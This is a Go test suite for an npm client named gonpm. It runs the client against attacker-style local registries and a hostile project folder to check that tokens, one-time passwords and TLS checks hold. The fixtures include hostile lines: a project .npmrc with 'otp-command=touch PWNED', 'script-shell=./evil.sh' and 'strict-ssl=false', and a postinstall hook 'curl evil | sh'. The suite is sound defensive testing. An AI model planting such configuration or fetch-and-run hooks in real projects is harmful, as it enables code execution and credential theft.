package e2e

import (
	"archive/tar"
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/rand"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gonpm/gonpm/internal/registrytest"
	"github.com/gonpm/gonpm/internal/tlstest"
)

// The hostile suite: the real binary against registries on 127.0.0.1
// that behave as an attacker's would, and a project folder an attacker
// wrote. Each case failed before its fix (see the security issue).

// hostileRun runs gonpm and also reports its peak memory (KiB; 0 where
// the system does not say) and how long it took.
func hostileRun(t *testing.T, env []string, dir, input string, args ...string) (stdout, stderr string, code int, maxRSSKiB int64, took time.Duration) {
	t.Helper()
	// Every case must end on its own: a gonpm still running after a
	// minute has hung, which is the failure some cases look for.
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, gonpmBinary(t), args...)
	cmd.Env, cmd.Dir, cmd.Stdin = env, dir, strings.NewReader(input)
	var out, errOut bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errOut
	start := time.Now()
	err := cmd.Run()
	took = time.Since(start)
	if ctx.Err() != nil {
		t.Fatalf("gonpm %s hung: killed after %s", strings.Join(args, " "), took.Round(time.Second))
	}
	if exitErr, ok := err.(*exec.ExitError); ok {
		code = exitErr.ExitCode()
	} else if err != nil {
		t.Fatalf("running gonpm: %v", err)
	}
	maxRSSKiB = peakMemoryKiB(cmd.ProcessState)
	return out.String(), errOut.String(), code, maxRSSKiB, took
}

// hostileHome is a home whose user config is npmrc.
func hostileHome(t *testing.T, npmrc string, extraEnv ...string) (home string, env []string) {
	t.Helper()
	home = t.TempDir()
	writeFile(t, filepath.Join(home, ".npmrc"), npmrc)
	env = append([]string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "NO_COLOR=1", "NPM_CONFIG_FETCH_RETRIES=0"}, extraEnv...)
	return home, env
}

// seen records the credentials each request to a server carried.
type seen struct {
	mu       sync.Mutex
	requests []string // "METHOD path auth=... otp=..."
	auth     int
	otp      int
}

func (s *seen) record(r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.requests = append(s.requests, r.Method+" "+r.URL.Path)
	if r.Header.Get("Authorization") != "" {
		s.auth++
	}
	if r.Header.Get("Npm-Otp") != "" {
		s.otp++
	}
}

func (s *seen) counts() (requests, auth, otp int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.requests), s.auth, s.otp
}

// oneErrorLine checks stderr ends in exactly one "gonpm error" line
// holding want.
func oneErrorLine(t *testing.T, stderr string, want ...string) {
	t.Helper()
	var errs []string
	for _, l := range strings.Split(stderr, "\n") {
		if strings.HasPrefix(l, "gonpm error ") {
			errs = append(errs, l)
		}
	}
	if len(errs) != 1 {
		t.Fatalf("want one error line, got %d:\n%s", len(errs), stderr)
	}
	for _, w := range want {
		if !strings.Contains(errs[0], w) {
			t.Errorf("error line does not mention %q:\n%s", w, errs[0])
		}
	}
}

// A registry redirects to another origin on the same host (another
// port): neither the token nor the one-time password may follow.
func TestHostileRedirectAcrossOrigins(t *testing.T) {
	var other seen
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		other.record(r)
		fmt.Fprint(w, `{"username":"mallory","ok":true}`)
	}))
	defer elsewhere.Close()
	reg := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPut && r.Header.Get("Npm-Otp") == "" {
			w.Header().Set("Www-Authenticate", "OTP")
			http.Error(w, `{"error":"otp required"}`, http.StatusUnauthorized)
			return
		}
		http.Redirect(w, r, elsewhere.URL+r.URL.Path, http.StatusTemporaryRedirect)
	}))
	defer reg.Close()
	home, env := hostileHome(t, fmt.Sprintf("registry=%s/\n//%s/:_authToken=secret-token\n", reg.URL, hostPort(reg.URL)))

	stdout, stderr, code, _, _ := hostileRun(t, env, home, "", "whoami")
	if code != 0 || strings.TrimSpace(stdout) != "mallory" {
		t.Fatalf("whoami through the redirect: exit %d %q %s", code, stdout, stderr)
	}
	_, stderr, code, _, _ = hostileRun(t, env, home, "", "dist-tag", "add", "pkg@1.0.0", "next", "--otp", "123456")
	if code != 0 {
		t.Fatalf("dist-tag add through the redirect: exit %d %s", code, stderr)
	}
	n, auth, otp := other.counts()
	if n < 2 {
		t.Fatalf("the other origin got %d requests, want the redirected ones", n)
	}
	if auth != 0 || otp != 0 {
		t.Errorf("the other origin got %d requests with the token and %d with the one-time password", auth, otp)
	}
}

// An https registry redirects to plain http: refused with one line, and
// the plain server never hears of it.
func TestHostileRedirectToPlainHTTP(t *testing.T) {
	ca, err := tlstest.NewCA()
	if err != nil {
		t.Fatal(err)
	}
	_, _, pair, err := ca.Issue(false, "127.0.0.1")
	if err != nil {
		t.Fatal(err)
	}
	var plain seen
	plainSrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		plain.record(r)
		fmt.Fprint(w, `{"username":"mallory"}`)
	}))
	defer plainSrv.Close()
	secure := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, plainSrv.URL+r.URL.Path, http.StatusFound)
	}))
	secure.TLS = &tls.Config{Certificates: []tls.Certificate{pair}}
	secure.StartTLS()
	defer secure.Close()
	caFile := filepath.Join(t.TempDir(), "ca.pem")
	writeFile(t, caFile, ca.CertPEM)
	home, env := hostileHome(t, fmt.Sprintf("cafile=%s\nregistry=%s/\n//%s/:_authToken=secret-token\n",
		caFile, secure.URL, strings.TrimPrefix(secure.URL, "https://")))

	_, stderr, code, _, _ := hostileRun(t, env, home, "", "whoami")
	if code == 0 {
		t.Fatalf("whoami followed the redirect to plain http")
	}
	oneErrorLine(t, stderr, "refusing to follow", plainSrv.URL)
	if n, _, _ := plain.counts(); n != 0 {
		t.Errorf("the plain http server got %d requests", n)
	}
	if strings.Contains(stderr, "secret-token") {
		t.Errorf("the token was printed")
	}
}

// stallingRegistry answers GETs with 404 and stops reading as soon as a
// PUT's headers are in: the upload never drains.
func stallingRegistry(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	stop := make(chan struct{})
	t.Cleanup(func() { close(stop); ln.Close() })
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				br := bufio.NewReader(conn)
				for {
					req, err := http.ReadRequest(br)
					if err != nil {
						return
					}
					if req.Method == http.MethodPut {
						<-stop
						return
					}
					_, _ = io.Copy(io.Discard, req.Body)
					body := `{"error":"not found"}`
					fmt.Fprintf(conn, "HTTP/1.1 404 Not Found\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
				}
			}()
		}
	}()
	return "http://" + ln.Addr().String() + "/"
}

// A registry stops reading the upload: publish gives up after
// fetch-timeout of no progress, naming the registry and the timeout.
func TestHostileRegistryStopsReadingTheUpload(t *testing.T) {
	reg := stallingRegistry(t)
	home, env := hostileHome(t, fmt.Sprintf("registry=%s\n//%s/:_authToken=tok\n", reg, hostPort(reg)))
	pkg := t.TempDir()
	writeFile(t, filepath.Join(pkg, "package.json"), `{"name":"big-pkg","version":"1.0.0"}`)
	blob := make([]byte, 24<<20) // incompressible, far more than socket buffers hold
	if _, err := rand.Read(blob); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(pkg, "blob.bin"), blob, 0o644); err != nil {
		t.Fatal(err)
	}
	_ = home
	_, stderr, code, _, took := hostileRun(t, env, pkg, "", "publish", "--fetch-timeout=2000", "--fetch-retries=0")
	if code == 0 {
		t.Fatalf("publish to a registry that stopped reading succeeded")
	}
	oneErrorLine(t, stderr, strings.TrimSuffix(reg, "/"), "fetch-timeout=2000")
	t.Logf("gave up after %s", took.Round(100*time.Millisecond))
}

// rawRegistry answers every request with reply, then waits (or, with
// hangUp, closes the connection).
func rawRegistry(t *testing.T, hangUp bool, reply func(w io.Writer)) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	stop := make(chan struct{})
	t.Cleanup(func() { close(stop); ln.Close() })
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				if _, err := http.ReadRequest(bufio.NewReader(conn)); err != nil {
					return
				}
				reply(conn)
				if !hangUp {
					<-stop
				}
			}()
		}
	}()
	return "http://" + ln.Addr().String() + "/"
}

// A registry sends half a reply and then nothing.
func TestHostileRegistryStopsSending(t *testing.T) {
	reg := rawRegistry(t, false, func(w io.Writer) {
		io.WriteString(w, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"username\":")
	})
	_, env := hostileHome(t, fmt.Sprintf("registry=%s\n//%s/:_authToken=tok\n", reg, hostPort(reg)))
	_, stderr, code, _, _ := hostileRun(t, env, t.TempDir(), "", "whoami", "--fetch-timeout=1000")
	if code == 0 {
		t.Fatalf("whoami accepted half a reply")
	}
	oneErrorLine(t, stderr, strings.TrimSuffix(reg, "/"), "fetch-timeout=1000")
}

// zeros is a long run of zero bytes.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// A registry answers whoami with an endless body. (The server stops at
// 192 MiB so that a gonpm without the cap cannot exhaust the machine
// running the test; that is still three thousand times the cap.)
func TestHostileEndlessReply(t *testing.T) {
	reg := rawRegistry(t, true, func(w io.Writer) {
		io.WriteString(w, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n{\"username\":\"")
		_, _ = io.Copy(w, io.LimitReader(zeros{}, 192<<20))
	})
	_, env := hostileHome(t, fmt.Sprintf("registry=%s\n//%s/:_authToken=tok\n", reg, hostPort(reg)))
	inherited := ownPeakMemoryKiB()
	_, stderr, code, rss, took := hostileRun(t, env, t.TempDir(), "", "whoami")
	if code == 0 {
		t.Fatalf("whoami accepted an endless reply")
	}
	oneErrorLine(t, stderr, "larger than 64 KiB")
	// A gonpm that keeps the reply holds the 192 MiB body (418 MiB peak
	// before the cap); 64 MiB, or 32 MiB above what the peak inherits
	// from this process, leaves no room for that.
	if limit := max(64<<10, inherited+32<<10); rss > limit {
		t.Errorf("peak memory %d MiB reading an endless whoami reply (limit %d MiB)", rss>>10, limit>>10)
	}
	t.Logf("peak memory %d MiB, %s", rss>>10, took.Round(10*time.Millisecond))
}

// A cloned project's .npmrc tries to run a command, move the user and
// global config, and turn off certificate checks.
func TestHostileProjectFolder(t *testing.T) {
	reg := registrytest.New(t)
	reg.AddUser("ann", "ann-Passw0rd", "ann@example.com")
	var puts seen
	challenging := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		puts.record(r)
		w.Header().Set("Www-Authenticate", "OTP")
		http.Error(w, `{"error":"otp required"}`, http.StatusUnauthorized)
	}))
	defer challenging.Close()

	home, env := hostileHome(t, fmt.Sprintf("registry=%s\n//%s/:_authToken=tok\n", challenging.URL+"/", hostPort(challenging.URL)))
	project := t.TempDir()
	writeFile(t, filepath.Join(project, "package.json"), `{"name":"victim","version":"1.0.0"}`)
	writeFile(t, filepath.Join(project, ".npmrc"), strings.Join([]string{
		"otp-command=touch PWNED; echo 000000",
		"script-shell=./evil.sh",
		"userconfig=./stolen-npmrc",
		"globalconfig=./stolen-global",
		"strict-ssl=false",
		"",
	}, "\n"))

	// The registry is named on the command line, so the command reaches
	// it even where the project moved the user config.
	_, stderr, code, _, _ := hostileRun(t, env, project, "", "dist-tag", "add", "victim@1.0.0", "next", "--registry", challenging.URL+"/")
	if _, err := os.Stat(filepath.Join(project, "PWNED")); err == nil {
		t.Fatalf("the project's otp-command ran")
	}
	if code == 0 {
		t.Errorf("dist-tag add succeeded without a one-time password")
	}
	for i, key := range []string{"otp-command", "script-shell", "userconfig", "globalconfig", "strict-ssl"} {
		want := fmt.Sprintf("ignoring %s in %s:%d", key, filepath.Join(project, ".npmrc"), i+1)
		if strings.Count(stderr, want) != 1 {
			t.Errorf("want one warning %q in:\n%s", want, stderr)
		}
	}

	// login writes the token to the user's own file, never into the
	// repository.
	env = append(env, "NPM_CONFIG_REGISTRY="+reg.URL)
	stdout, stderr, code, _, _ := hostileRun(t, env, project, "ann\nann-Passw0rd\n", "login", "--auth-type=legacy")
	if code != 0 {
		t.Fatalf("login: exit %d %s %s", code, stdout, stderr)
	}
	if _, err := os.Stat(filepath.Join(project, "stolen-npmrc")); err == nil {
		t.Errorf("login wrote into the repository")
	}
	data, _ := os.ReadFile(filepath.Join(home, ".npmrc"))
	if !strings.Contains(string(data), "//"+hostPort(reg.URL)+"/:_authToken=") {
		t.Errorf("the token is not in the user's own npmrc:\n%s", data)
	}
}

// strict-ssl=false from a project file does not let a self-signed
// registry through; the same setting from the user does.
func TestHostileProjectCannotTurnOffTLSChecks(t *testing.T) {
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `{"username":"mallory"}`)
	}))
	defer srv.Close()
	auth := "//" + strings.TrimPrefix(srv.URL, "https://") + "/:_authToken=tok\n"
	home, env := hostileHome(t, "registry="+srv.URL+"/\n"+auth)
	project := t.TempDir()
	writeFile(t, filepath.Join(project, "package.json"), `{"name":"victim","version":"1.0.0"}`)
	writeFile(t, filepath.Join(project, ".npmrc"), "strict-ssl=false\n")
	_, stderr, code, _, _ := hostileRun(t, env, project, "", "whoami")
	if code == 0 {
		t.Fatalf("a project's strict-ssl=false let an unknown certificate through")
	}
	oneErrorLine(t, stderr, "certificate")
	writeFile(t, filepath.Join(home, ".npmrc"), "registry="+srv.URL+"/\nstrict-ssl=false\n"+auth)
	stdout, stderr, code, _, _ := hostileRun(t, env, project, "", "whoami")
	if code != 0 || strings.TrimSpace(stdout) != "mallory" {
		t.Errorf("the user's strict-ssl=false was not honoured: exit %d %q\n%s", code, stdout, stderr)
	}
}

// TLS and proxies as npm users configure them: a registry known only to
// a CONNECT proxy, with a certificate from a private CA.
func TestHostileTLSAndProxySettings(t *testing.T) {
	ca, err := tlstest.NewCA()
	if err != nil {
		t.Fatal(err)
	}
	_, _, pair, err := ca.Issue(false, "registry.example.test")
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `{"username":"ann"}`)
	}))
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{pair}}
	srv.StartTLS()
	defer srv.Close()
	proxy, err := tlstest.NewProxy(strings.TrimPrefix(srv.URL, "https://"))
	if err != nil {
		t.Fatal(err)
	}
	defer proxy.Close()
	caFile := filepath.Join(t.TempDir(), "ca.pem")
	writeFile(t, caFile, ca.CertPEM)
	reg := "https://registry.example.test:" + srv.URL[strings.LastIndexByte(srv.URL, ':')+1:] + "/"
	oneLineCA := strings.ReplaceAll(strings.TrimSpace(ca.CertPEM), "\n", `\n`)
	for _, tt := range []struct {
		name  string
		npmrc string
		env   []string
	}{
		{"cafile and https-proxy", "cafile=" + caFile + "\nhttps-proxy=" + proxy.URL + "\n", nil},
		{"ca and HTTPS_PROXY", "ca=\"" + oneLineCA + "\"\n", []string{"HTTPS_PROXY=" + proxy.URL}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			home, env := hostileHome(t, "registry="+reg+"\n//registry.example.test:"+srv.URL[strings.LastIndexByte(srv.URL, ':')+1:]+"/:_authToken=tok\n"+tt.npmrc, tt.env...)
			before := len(proxy.Connects())
			stdout, stderr, code, _, _ := hostileRun(t, env, home, "", "whoami")
			if code != 0 || strings.TrimSpace(stdout) != "ann" || len(proxy.Connects()) == before {
				t.Fatalf("whoami through the proxy: exit %d %q %s", code, stdout, stderr)
			}
		})
	}
}

// A workspace publishes to two registries: the one-time password given
// for the default registry never reaches the scope's registry.
func TestHostileWorkspaceOTPStaysWithItsRegistry(t *testing.T) {
	var gotA, gotB seen
	var mu sync.Mutex
	otpsAtB := map[string]int{}
	regA := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gotA.record(r)
		switch {
		case r.Method == http.MethodGet:
			http.Error(w, `{"error":"not found"}`, http.StatusNotFound)
		case r.Header.Get("Npm-Otp") != "111111":
			w.Header().Set("Www-Authenticate", "OTP")
			http.Error(w, `{"error":"otp required"}`, http.StatusUnauthorized)
		default:
			fmt.Fprint(w, `{"ok":true}`)
		}
	}))
	defer regA.Close()
	regB := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gotB.record(r)
		mu.Lock()
		otpsAtB[r.Header.Get("Npm-Otp")]++
		mu.Unlock()
		if r.Method == http.MethodGet {
			http.Error(w, `{"error":"not found"}`, http.StatusNotFound)
			return
		}
		fmt.Fprint(w, `{"ok":true}`)
	}))
	defer regB.Close()
	_, env := hostileHome(t, fmt.Sprintf("registry=%s/\n@other:registry=%s/\n//%s/:_authToken=tok-a\n//%s/:_authToken=tok-b\n",
		regA.URL, regB.URL, hostPort(regA.URL), hostPort(regB.URL)))
	mono := t.TempDir()
	writeFile(t, filepath.Join(mono, "package.json"), `{"name":"mono","private":true,"workspaces":["packages/*"]}`)
	// The scope's package comes first in workspace order: the code still
	// belongs to the default registry, whichever upload goes first.
	for dir, name := range map[string]string{"a": "@other/ws-b", "b": "ws-a"} {
		if err := os.MkdirAll(filepath.Join(mono, "packages", dir), 0o755); err != nil {
			t.Fatal(err)
		}
		writeFile(t, filepath.Join(mono, "packages", dir, "package.json"), `{"name":"`+name+`","version":"1.0.0","publishConfig":{"access":"public"}}`)
	}
	stdout, stderr, code, _, _ := hostileRun(t, env, mono, "", "publish", "--workspaces", "--otp", "111111")
	if code != 0 || !strings.Contains(stdout, "+ ws-a@1.0.0") || !strings.Contains(stdout, "+ @other/ws-b@1.0.0") {
		t.Fatalf("workspace publish: exit %d\n%s%s", code, stdout, stderr)
	}
	if _, _, otp := gotA.counts(); otp == 0 {
		t.Errorf("the default registry never got the code")
	}
	mu.Lock()
	defer mu.Unlock()
	for code, n := range otpsAtB {
		if code != "" {
			t.Errorf("the scope's registry got npm-otp %q on %d requests", code, n)
		}
	}
}

// A tarball with two package.json entries: npm installs the second, so
// publishing the first as metadata would lie about the package.
func TestHostileTarballWithTwoManifests(t *testing.T) {
	var got seen
	reg := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got.record(r)
		if r.Method == http.MethodGet {
			http.Error(w, `{"error":"not found"}`, http.StatusNotFound)
			return
		}
		fmt.Fprint(w, `{"ok":true}`)
	}))
	defer reg.Close()
	home, env := hostileHome(t, fmt.Sprintf("registry=%s/\n//%s/:_authToken=tok\n", reg.URL, hostPort(reg.URL)))
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, body := range []string{`{"name":"innocent","version":"1.0.0"}`, `{"name":"innocent","version":"1.0.0","scripts":{"postinstall":"curl evil | sh"}}`} {
		tw.WriteHeader(&tar.Header{Name: "package/package.json", Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
		tw.Write([]byte(body))
	}
	tw.Close()
	zw.Close()
	file := filepath.Join(home, "innocent-1.0.0.tgz")
	if err := os.WriteFile(file, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	_, stderr, code, _, _ := hostileRun(t, env, home, "", "publish", file)
	if code == 0 {
		t.Fatalf("a tarball with two package.json was published")
	}
	oneErrorLine(t, stderr, "package/package.json", "appears twice")
	got.mu.Lock()
	defer got.mu.Unlock()
	for _, r := range got.requests {
		if strings.HasPrefix(r, "PUT") {
			t.Errorf("the registry got %s", r)
		}
	}
}
